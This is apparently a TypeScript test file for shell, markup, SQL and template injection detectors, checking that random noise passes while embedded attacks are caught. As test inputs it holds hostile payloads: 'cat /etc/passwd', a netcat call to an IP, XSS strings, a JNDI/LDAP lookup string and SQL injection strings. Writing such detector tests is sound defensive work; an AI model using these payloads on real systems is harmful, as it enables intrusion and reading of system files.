import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { detectMarkup } from '../markup/detect-markup.ts';
import { detectShell } from '../shell/detect-shell.ts';
import { detectSql } from '../sql/detect-sql.ts';
import { detectTemplate } from '../template/detect-template.ts';

/** As guards against bots send what they have seen: every character of a keyboard, and no word. */
const NOISE =
  '7&[I}G[L{?<1`L!gm,=ab@RU-r:$Bd.s!q!,C<W(h,wRWx~G6H9L8zT,Eh_n51BzZ*gg,i-^9?.id0Ch+*p{^z,0,MX-&)qe2,Lr^s[]h&#^9?TGb}6GxT6)' +
  'qZ?m9N(nX~_C`)>ub|A=oM_)A]Sm1gW:O)m(gM5$o,2;39;17;2,&99N-s?&,M^>St.f,)k~j8`Wn]ag0+R7,k>u~R:aq[,kJbk*6,B:=/5>Ce`5`=t_I4YX' +
  'j7.d8Gq|x,<^4Prm)PiD04o;N{e}$@&e:I,<X)_G`#Zhv,c.m#iTE~tD,wm~A/Pf@,f-N,|,wS-x6oO,J4L,1v_+q,W9+x0Z0r_`F[!T.G,Q8gq:/f%{u~k}.';

describe('noise', () => {
  test('holds nothing but what chance puts there', () => {
    for (const chance of ['|W>[**$Tz', '`sc)mf?}p`', '<xZm1:#?hc=b>']) {
      assert.equal(detectShell(`${NOISE}${chance}${NOISE}`), null, chance);
      assert.equal(detectMarkup(`${NOISE}${chance}${NOISE}`), null, chance);
    }
  });

  test('is no query between the quotes of a cookie', () => {
    const token = '+2QbWQ06SM4XnthOfapsiSkSnbruwvAaCr0QxR96f3dsDle2Smly9ECzuNODmCACRYQO5VjW==';
    assert.equal(detectSql(`"${token}"`), null);
    assert.ok(detectSql('"or"1"="1'));
  });

  test('hides no command that stands between two lines of it', () => {
    const line = NOISE.replaceAll(/\s/g, '').slice(0, 300);
    for (const command of ['id', 'ls -la', 'cat /e*/p*', 'nc 192.0.2.1 2']) {
      assert.ok(detectShell(`192.0.2.1\n#${line}\n${command}\n#${line}`), command);
    }
    assert.equal(detectShell(`${line}\n${line}`), null);
    assert.equal(detectShell(`the lines\n${line}\nmean\n${line}`), null);
  });

  test('hides no attack', () => {
    assert.ok(detectMarkup(`${NOISE}<img src=x onerror=alert(1)>${NOISE}`));
    assert.ok(detectMarkup(`${NOISE}<script>alert(1)</script>`));
    assert.ok(detectTemplate(`${NOISE}\${jndi:ldap://203.0.113.5/a}${NOISE}`));
    const open = NOISE.replaceAll(/["']/g, '');
    assert.ok(detectShell(`${open};cat /etc/passwd;${open}`));
    for (const attack of ["' or 1=1#", "'/**/or/**/1=1#", '1 union select 1,2#']) {
      assert.ok(detectSql(`${open}${attack}${open}`), attack);
    }
  });
});
